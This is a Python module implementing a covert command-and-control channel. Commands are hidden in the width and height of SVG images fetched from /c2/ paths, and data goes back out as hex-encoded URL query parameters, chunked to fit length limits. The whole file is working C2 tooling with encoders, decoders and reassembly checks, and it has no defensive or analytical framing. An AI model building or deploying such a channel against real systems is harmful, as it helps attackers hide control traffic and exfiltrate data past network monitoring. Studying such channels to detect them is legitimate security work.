"""Covert command channel: image dimensions downstream, URL parameters upstream.

Downstream frames are a list of SVG images. Image 0 carries the payload
length (high 16 bits as width, low 16 bits as height); every further image
carries 4 payload bytes big-endian, width first, zero-padded at the end.
Images are fetched in parallel from ``/c2/<frame>/<index>.svg`` so the index
restores order.
"""

from __future__ import annotations

import math
import re
import struct
from dataclasses import dataclass
from urllib.parse import parse_qsl

from .http_core import Url

MAX_DIM = 65535
BYTES_PER_IMAGE = 4
URL_BUDGET = 2048

SVG_TEMPLATE = '<svg xmlns="http://www.w3.org/2000/svg" width="{w}" height="{h}"/>'
_SVG_DIMS = re.compile(rb'width="(\d+)" height="(\d+)"')


class C2Error(ValueError):
    pass


class GapError(C2Error):
    def __init__(self, index: int):
        super().__init__(f"frame is missing codeword {index}")
        self.index = index


class LengthError(C2Error):
    pass


class BudgetError(C2Error):
    pass


@dataclass(frozen=True)
class ImageCodeword:
    index: int
    width: int
    height: int

    def __post_init__(self):
        if self.index < 0:
            raise ValueError("index must be unsigned")
        if not 0 <= self.width <= MAX_DIM:
            raise ValueError(f"width must be in 0..{MAX_DIM}")
        if not 0 <= self.height <= MAX_DIM:
            raise ValueError(f"height must be in 0..{MAX_DIM}")

    def path(self, frame: int) -> str:
        return f"/c2/{frame}/{self.index}.svg"


@dataclass(frozen=True)
class DownstreamFrame:
    total_len: int
    codewords: tuple[ImageCodeword, ...]


def images_for(total_len: int) -> int:
    return 1 + math.ceil(total_len / BYTES_PER_IMAGE)


def encode_downstream(data: bytes) -> DownstreamFrame:
    n = len(data)
    if n >= 1 << 32:
        raise C2Error("payload length must fit in 32 bits")
    padded = data + b"\x00" * (-n % BYTES_PER_IMAGE)
    halves = struct.unpack(f">{len(padded) // 2}H", padded)
    words = [ImageCodeword(0, n >> 16, n & 0xFFFF)]
    words += map(ImageCodeword, range(1, len(halves) // 2 + 1), halves[::2], halves[1::2])
    return DownstreamFrame(n, tuple(words))


def decode_downstream(frame: DownstreamFrame | list[ImageCodeword]) -> bytes:
    """Reassemble a frame; codewords may arrive in any order."""
    words = frame.codewords if isinstance(frame, DownstreamFrame) else tuple(frame)
    by_index: dict[int, ImageCodeword] = {}
    for w in words:
        if w.index in by_index:
            raise C2Error(f"duplicate codeword {w.index}")
        by_index[w.index] = w
    for i in range(len(by_index)):
        if i not in by_index:
            raise GapError(i)
    if not by_index:
        raise GapError(0)
    header = by_index[0]
    total = (header.width << 16) | header.height
    if isinstance(frame, DownstreamFrame) and frame.total_len != total:
        raise LengthError(f"frame says {frame.total_len} bytes, header codeword says {total}")
    if images_for(total) != len(by_index):
        raise LengthError(f"{total} bytes need {images_for(total)} codewords, got {len(by_index)}")
    halves = []
    for i in range(1, len(by_index)):
        w = by_index[i]
        halves += (w.width, w.height)
    return struct.pack(f">{len(halves)}H", *halves)[:total]


def svg_document(width: int, height: int) -> bytes:
    """Raw template fill; no bounds applied (browsers clamp at measurement)."""
    return SVG_TEMPLATE.format(w=int(width), h=int(height)).encode("ascii")


def render_svg(cw: ImageCodeword) -> bytes:
    return svg_document(cw.width, cw.height)


def measure_svg(doc: bytes) -> tuple[int, int]:
    """Dimensions a cross-origin page can observe, clamped like a browser."""
    m = _SVG_DIMS.search(doc)
    if m is None:
        raise C2Error("not a channel image")
    return min(int(m.group(1)), MAX_DIM), min(int(m.group(2)), MAX_DIM)


def _join(base_url: str, params: str) -> str:
    return f"{base_url}{'&' if '?' in base_url else '?'}{params}"


def encode_upstream(data: bytes, base_url: str, budget: int = URL_BUDGET) -> str:
    url = _join(base_url, f"d={data.hex()}")
    if len(url) > budget:
        raise BudgetError(f"{len(url)}-byte URL exceeds the {budget}-byte budget; use chunk_upstream")
    return url


def chunk_upstream(data: bytes, base_url: str, budget: int = URL_BUDGET) -> list[str]:
    """Split ``data`` over as few URLs as fit the budget, each tagged ``i=<n>``."""
    if not data:
        return [_join(base_url, "i=0&d=")]
    urls: list[str] = []
    pos = 0
    while pos < len(data):
        overhead = len(_join(base_url, f"i={len(urls)}&d="))
        room = (budget - overhead) // 2
        if room <= 0:
            raise BudgetError("base URL leaves no room for data")
        urls.append(_join(base_url, f"i={len(urls)}&d={data[pos:pos + room].hex()}"))
        pos += room
    return urls


def _params(url: str) -> dict[str, str]:
    return dict(parse_qsl(Url.parse(url).query, keep_blank_values=True))


def decode_upstream(url: str) -> bytes:
    params = _params(url)
    if "d" not in params:
        raise C2Error("URL has no d parameter")
    try:
        return bytes.fromhex(params["d"])
    except ValueError as exc:
        raise C2Error(f"bad hex in d parameter: {exc}") from None


def upstream_index(url: str) -> int:
    return int(_params(url).get("i", "0"))


def decode_upstream_chunks(urls: list[str]) -> bytes:
    ordered = sorted(urls, key=upstream_index)
    for expect, url in enumerate(ordered):
        if upstream_index(url) != expect:
            raise GapError(expect)
    return b"".join(decode_upstream(u) for u in ordered)


def channel_throughput(codewords_per_second: float) -> float:
    """Payload bytes per second for a given image rate."""
    if codewords_per_second <= 0:
        raise ValueError("rate must be positive")
    return BYTES_PER_IMAGE * codewords_per_second
